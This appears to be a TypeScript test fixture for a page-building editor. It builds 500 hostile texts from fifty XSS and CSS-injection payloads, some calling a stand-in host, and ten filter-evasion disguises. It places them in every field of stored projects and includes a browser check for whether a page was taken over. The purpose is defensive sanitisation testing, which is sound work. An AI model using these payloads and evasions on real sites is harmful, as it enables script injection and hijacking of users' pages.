import { Element, type Project } from '../document.ts'
import { readProject } from '../migrate.ts'
import { isPageKind } from '../page-kinds.ts'

const host = '//elsewhere.example'
const run = "alert(1);document.documentElement.dataset.taken='1'"

/** Each tries to run or fetch something, or to write the declaration `--taken`. */
const bases = [
  `<script>${run}</script>`,
  `<script src=${host}/a.js></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=${host}/a.png>`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><use href="${host}/a.svg#x"/></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src=${host}/frame></iframe>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video src=${host}/a.mp4 autoplay onerror="${run}"></video>`,
  `<audio src=${host}/a.mp3 autoplay></audio>`,
  `<object data="${host}/a.swf"></object>`,
  `<embed src="${host}/a.swf">`,
  `<link rel=stylesheet href=${host}/a.css>`,
  `<link rel=prefetch href=${host}/a>`,
  `<meta http-equiv=refresh content="0;url=${host}/">`,
  `<base href="${host}/">`,
  `<form action=${host}/><button autofocus onfocus="${run}">x</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<style>*{--taken:1;background:url(${host}/a)}</style>`,
  `<style>@import url(${host}/a.css);</style>`,
  `<math><mtext><table><mglyph><style><img src onerror="${run}">`,
  `<template><img src=${host}/a></template><plaintext>`,
  `x" onmouseover="${run}" style="--taken:1`,
  `x' onmouseover='${run}' style='--taken:1`,
  `x" autofocus onfocus="${run}" tabindex="0`,
  `x" src="${host}/a.png" srcset="${host}/b.png 1x`,
  `red;--taken:1`,
  `red;--taken:1;background:url(${host}/a)`,
  `red}*{--taken:1;background:url(${host}/a)}`,
  `0 0 1px red;--taken:1;position:fixed;inset:0`,
  `url(${host}/a.png)`,
  `red url(${host}/a.png)`,
  `red),url(${host}/a.png),linear-gradient(red`,
  `image-set("${host}/a.png" 1x)`,
  `x";src:url(${host}/a.woff2);--taken:1;x:"`,
  `\\72 ed;--taken:1`,
  `red/**/;/**/--taken:1`,
  `expression(${run})`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `https:${host}/a.png`,
  `${host}/a.png`,
  `/\\elsewhere.example/a.png`,
  `material:a") , url("${host}/a.png`,
  `material:../../elsewhere.example/a`,
]

/** Ways to write a text so that a search for its letters fails, or so that it closes what holds it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/script|style|url|src/g, (word) => word.toUpperCase()),
  (text) => `</style></title></textarea></script>-->]]>${text}`,
  (text) => `"'>${text}`,
  (text) => `"}});${text}`,
  (text) => text.replace(/java|onl|one|ur/g, (word) => `${word.slice(0, 2)}\t${word.slice(2)}`),
  (text) => text.replace(/[<>"':]/g, (sign) => `&#${sign.codePointAt(0)};`),
  (text) => text.replace(/[<>"':]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`),
  (text) => `__view__${text}${'\n'}name="view" value="__view__"`,
  (text) => `\u202e\ufeff${text}\ud83d\ude00`,
]

/** 500 texts that would take a page over where one field of a document is not held. */
export const hostileTexts: readonly string[] = disguises.flatMap((disguise) => bases.map(disguise))

type Fields = Record<string, unknown>
const isFields = (value: unknown): value is Fields =>
  typeof value === 'object' && value !== null && !Array.isArray(value)

/** Where a document holds texts, by the names on the way to them; those of an element in a list that is empty are not found. */
const textPaths = (value: Fields, way: readonly string[] = []): string[][] =>
  Object.entries(value).flatMap(([name, inner]) => {
    if (typeof inner === 'string') return [[...way, name]]
    return isFields(inner) ? textPaths(inner, [...way, name]) : []
  })

function withText(value: Fields, [name = '', ...rest]: readonly string[], text: string): Fields {
  const inner = value[name]
  return { ...value, [name]: rest.length > 0 && isFields(inner) ? withText(inner, rest, text) : text }
}

const identity = new Set(['uuid', 'elName'])

/** An element of a kind with the text in every field that a stored document could have it in. */
function hostileElement(elName: string, text: string, uuid: string): Fields {
  const happening = { type: text.slice(0, 64), url: text }
  const more = {
    label: text.slice(0, 100),
    events: [happening],
    animations: [{ type: text.slice(0, 64) }],
    value: text,
  }
  if (elName === 'form') {
    const choices = [text.slice(0, 100)]
    const field = { uuid, label: text.slice(0, 100), kind: 'select', choices }
    return {
      uuid,
      elName,
      ...more,
      propsValue: { fields: [field], submit: text.slice(0, 40), thanks: text, consent: text },
    }
  }
  if (isPageKind(elName)) {
    const [words, content] = [text.slice(0, 200), text.slice(0, 500)]
    const propsValue = { text: words, content, address: content, at: '2030-01-01T00:00:00Z', over: words, name: words }
    return { ...hostileElement('text', text, uuid), elName, propsValue }
  }
  const option = Element.options.find(({ shape }) => shape.elName.safeParse(elName).success)
  if (!option) return { uuid, elName: text.slice(0, 64), ...more, propsValue: { text, imageSrc: text, videoSrc: text } }
  const plain: Fields = { ...option.parse({ uuid, elName }), ...more }
  return textPaths(plain)
    .filter(([name = '']) => !identity.has(name))
    .reduce((element, path) => {
      const next = withText(element, path, text)
      return option.safeParse(next).success ? next : element
    }, plain)
}

/** Kinds that a document can have: those that are drawn anywhere, those of pages alone, and one that no version knows. */
const ofPages = ['form', 'button', 'call', 'copy', 'carousel', 'map', 'countdown', 'music', 'qrcode']
const kinds = [...Element.options.map(({ shape }) => shape.elName.value), ...ofPages, 'unheard-of']

/** A document as it could be stored: for every text a page that says it wherever it can, with an element of every kind. */
function hostileProject(texts: readonly string[]): Project {
  const first = texts[0] ?? ''
  const read = readProject({
    title: first.slice(0, 200),
    name: first.slice(0, 100),
    description: first,
    coverImage: first,
    auther: first.slice(0, 100),
    script: `${run};fetch('https:${host}/script')`,
    shareConfig: { title: first.slice(0, 200), description: first, coverImage: first },
    pages: texts.map((text, at) => ({
      uuid: `page-${at}`,
      name: text.slice(0, 100),
      commonStyle: {
        backgroundColor: text.slice(0, 64),
        backgroundSize: text.slice(0, 64),
        backgroundImage: text,
        bgcMusic: [text],
      },
      elements: kinds.map((elName, index) => hostileElement(elName, text, `element-${at}-${index}`)),
    })),
  })
  if (!read.ok) throw new Error(JSON.stringify(read.fault))
  return read.value.project
}

/** The 500 texts in documents of at most 100 pages. */
export const hostileProjects = (texts: readonly string[] = hostileTexts): Project[] =>
  Array.from({ length: Math.ceil(texts.length / 100) }, (_, at) =>
    hostileProject(texts.slice(at * 100, at * 100 + 100)),
  )

/** Runs in a browser, as a text: what of the page was taken over, in words. Empty where nothing was. */
export const takenOver = `(() => {
  const found = []
  if (document.documentElement.dataset.taken) found.push('a script ran')
  for (const node of document.querySelectorAll('*')) {
    if (getComputedStyle(node).getPropertyValue('--taken') !== '') found.push('declaration in ' + node.outerHTML.slice(0, 200))
    for (const { name, value } of node.attributes) {
      if (name.startsWith('on') || name === 'srcdoc') found.push('attribute ' + name + ' in ' + node.tagName)
      if (/^(href|src|action|formaction|data|srcset)$/.test(name) && /^\\s*(javascript|data:text|vbscript):/i.test(value))
        found.push('address ' + name + ' in ' + node.tagName)
    }
  }
  for (const { tagName } of document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], script:not([src]), template, plaintext'))
    found.push('element ' + tagName)
  return found
})()`
